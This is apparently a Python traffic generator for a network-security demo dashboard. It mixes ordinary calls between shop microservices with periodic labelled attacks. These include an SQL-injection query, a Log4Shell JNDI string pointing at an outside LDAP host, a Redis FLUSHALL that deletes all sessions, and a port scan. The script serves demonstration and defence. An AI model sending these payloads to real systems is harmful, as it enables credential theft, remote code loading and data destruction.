#!/usr/bin/env python3
"""What the demo's shop says all day, and what an attacker among it tries now and then. One round a second until it is ended.

    dashboard_traffic.py FILE      a line for each attack goes to FILE, as it is tried
"""

import random
import socket
import ssl
import struct
import sys
import time

HOSTS = {"storefront": 11, "mobile-api": 12, "checkout": 13, "search": 14, "reviews": 15, "batch": 16, "support": 17,
         "session-cache": 21, "catalogue": 22, "stock": 23, "dns": 24, "card-vault": 25, "ledger": 26, "fraud": 27,
         "stranger": 66}


def address(name):
    return f"10.99.0.{HOSTS[name]}"


def connect(source, target, port, seconds=3.0):
    s = socket.socket()
    s.settimeout(seconds)
    s.bind((address(source), 0))
    s.connect((address(target), port))
    return s


def http(source, target, path, method="GET", body=b""):
    with connect(source, target, 80) as s:
        content = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body else ""
        s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {target}.shop\r\nUser-Agent: shop/1.4\r\nAccept: */*\r\n{content}"
                  "Connection: close\r\n\r\n".encode() + body)
        while s.recv(65536):
            pass


def redis(source, *words):
    with connect(source, "session-cache", 6379) as s:
        for _ in range(random.randrange(1, 6)):
            s.sendall(b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in (x.encode() for x in words)))
            s.recv(65536)


def tls(source, target):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(connect(source, target, 443), server_hostname=f"{target}.shop") as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: vault.shop\r\nConnection: close\r\n\r\n")
        s.recv(65536)


def dns(source, name):
    question = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
    question += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.bind((address(source), 0))
        s.sendto(question, (address("dns"), 53))
        s.recv(512)


def touch(source, target, port):
    connect(source, target, port, 0.4).close()


def scan():
    for port in (22, 80, 443, 3306, 5432, 6379, 8080):
        tried(touch, "stranger", "ledger", port)


ORDINARY = [
    (redis, "storefront", "set", "session:1", "x" * 200), (redis, "storefront", "get", "session:1"), (redis, "mobile-api", "get", "session:1"),
    (redis, "checkout", "get", "session:1"), (http, "storefront", "catalogue", "/big"), (http, "mobile-api", "catalogue", "/items?page=2"),
    (http, "search", "catalogue", "/items?q=boots"), (http, "checkout", "stock", "/reserve", "POST", b'{"item":4}'), (http, "batch", "stock", "/count"),
    (dns, "storefront", "catalogue.shop"), (dns, "checkout", "ledger.shop"), (tls, "checkout", "card-vault"),
    (http, "checkout", "ledger", "/entries", "POST", b'{"sum":12}'), (http, "checkout", "fraud", "/score?order=7"),
]
ATTACKS = [
    ("mobile-api asks the catalogue with SQL in an argument", http, "mobile-api", "catalogue", "/items?id=1%27%20union%20select%20name,pass%20from%20users--%20x"),
    ("storefront asks the catalogue with ${jndi:...} (Log4Shell)", http, "storefront", "catalogue", "/items?q=${jndi:ldap://198.51.100.7/a}"),
    ("batch wants the card vault", touch, "batch", "card-vault", 443),
    ("storefront deletes all sessions (redis FLUSHALL)", redis, "storefront", "flushall"),
    ("reviews reads the catalogue: not in the policy, in monitor mode", http, "reviews", "catalogue", "/items?page=1"),
    ("support speaks HTTP to the ledger", http, "support", "ledger", "/entries"),
    ("somebody without labels tries ports of the ledger", scan),
]


def tried(act, *args):
    try:
        act(*args)
    except OSError:
        pass


def main(path):
    rounds = 0
    with open(path, "a", encoding="utf-8") as said:
        while True:
            for job in random.sample(ORDINARY, 9):
                tried(*job)
            # A while of peace first, then one of them after the other.
            if rounds >= 6 and rounds % 2 == 0:
                words, *job = ATTACKS[(rounds - 6) // 2 % len(ATTACKS)]
                tried(*job)
                print(words, file=said, flush=True)
            rounds += 1
            time.sleep(1)


if __name__ == "__main__":
    main(sys.argv[1])
